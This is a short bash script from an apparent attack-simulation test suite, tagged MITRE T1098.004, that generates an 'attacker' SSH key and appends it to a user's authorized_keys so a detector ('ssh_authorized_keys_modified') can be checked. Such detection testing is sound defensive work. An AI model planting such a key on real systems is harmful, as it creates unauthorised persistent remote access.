#!/bin/bash
# desc: an attacker's public key appended to a user's authorized_keys
# mitre: T1098.004
# expect: ssh_authorized_keys_modified
source "$ATTACK_LIB"

ssh-keygen -q -t ed25519 -N '' -C "attacker-$ATTACK_ID" -f "$ATTACK_TMP/key"
[ -d "$ATTACK_HOME/.ssh" ] || undo "rm -rf $ATTACK_HOME/.ssh"
install -d -m 700 -o "$ATTACK_UID" -g "$ATTACK_GID" "$ATTACK_HOME/.ssh"
append_line "$ATTACK_HOME/.ssh/authorized_keys" "$(cat "$ATTACK_TMP/key.pub")"
